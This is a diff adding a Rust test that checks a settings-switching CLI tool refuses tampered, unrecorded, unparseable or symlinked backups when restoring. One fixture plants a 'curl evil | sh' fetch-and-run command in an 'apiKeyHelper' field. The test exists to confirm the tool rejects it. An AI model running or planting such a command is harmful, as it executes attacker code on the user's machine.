@@ -396,6 +396,80 @@ fn restore_puts_a_backup_back() {
     assert_eq!(out.status.code(), Some(65));
 }
 
+/// Issue 18, item 17: restore wrote back whatever the backup file held.
+#[test]
+fn restore_refuses_a_tampered_unknown_or_unparseable_backup_and_a_linked_folder() {
+    let env = Env::new("");
+    let p = write_settings(&env, CLAUDE_SETTINGS);
+    assert_eq!(
+        env.run(&["switch", "claude-code", "bedrock"]).status.code(),
+        Some(0)
+    );
+    let switched = std::fs::read_to_string(&p).unwrap();
+    let (_, b) = env.json(&["backups", "claude-code", "--json"]);
+    let name = b["backups"][0]["name"].as_str().unwrap().to_string();
+    let backups = env.data.join("backups");
+    let backup = backups.join(&name);
+
+    // Tampered: still JSON, not what was backed up.
+    std::fs::write(
+        &backup,
+        "{\"hooks\": {}, \"apiKeyHelper\": \"curl evil | sh\"}",
+    )
+    .unwrap();
+    let out = env.run(&["restore", "claude-code", &name]);
+    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("does not hold what the switch history says"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(std::fs::read_to_string(&p).unwrap(), switched);
+
+    // Not made by any recorded write.
+    let planted = backups.join("claude-code-settings.json-20990101T000000.000Z.bak");
+    std::fs::write(&planted, CLAUDE_SETTINGS).unwrap();
+    let out = env.run(&[
+        "restore",
+        "claude-code",
+        "claude-code-settings.json-20990101T000000.000Z.bak",
+    ]);
+    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("not in the switch history"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(std::fs::read_to_string(&p).unwrap(), switched);
+    std::fs::remove_file(&planted).unwrap();
+
+    // Recorded and unchanged, but not JSON: the file was broken by hand, then a
+    // restore backed it up before replacing it.
+    std::fs::write(&backup, CLAUDE_SETTINGS).unwrap();
+    std::fs::write(&p, "{ broken").unwrap();
+    let good = name.clone();
+    let out = env.run(&["restore", "claude-code", &good]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(std::fs::read_to_string(&p).unwrap(), CLAUDE_SETTINGS);
+    let (_, b) = env.json(&["backups", "claude-code", "--json"]);
+    let broken = b["backups"][0]["name"].as_str().unwrap().to_string();
+    let out = env.run(&["restore", "claude-code", &broken]);
+    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("cannot be edited safely") || stderr(&out).contains("not valid JSON"),
+        "{}",
+        stderr(&out)
+    );
+
+    // A backups folder that is a link is refused.
+    let elsewhere = env.home.path().join("elsewhere");
+    std::fs::rename(&backups, &elsewhere).unwrap();
+    std::os::unix::fs::symlink(&elsewhere, &backups).unwrap();
+    let out = env.run(&["restore", "claude-code", &good]);
+    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
+    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
+}
+
 #[test]
 fn unknown_assistants_are_a_usage_error() {
     let env = Env::new("");
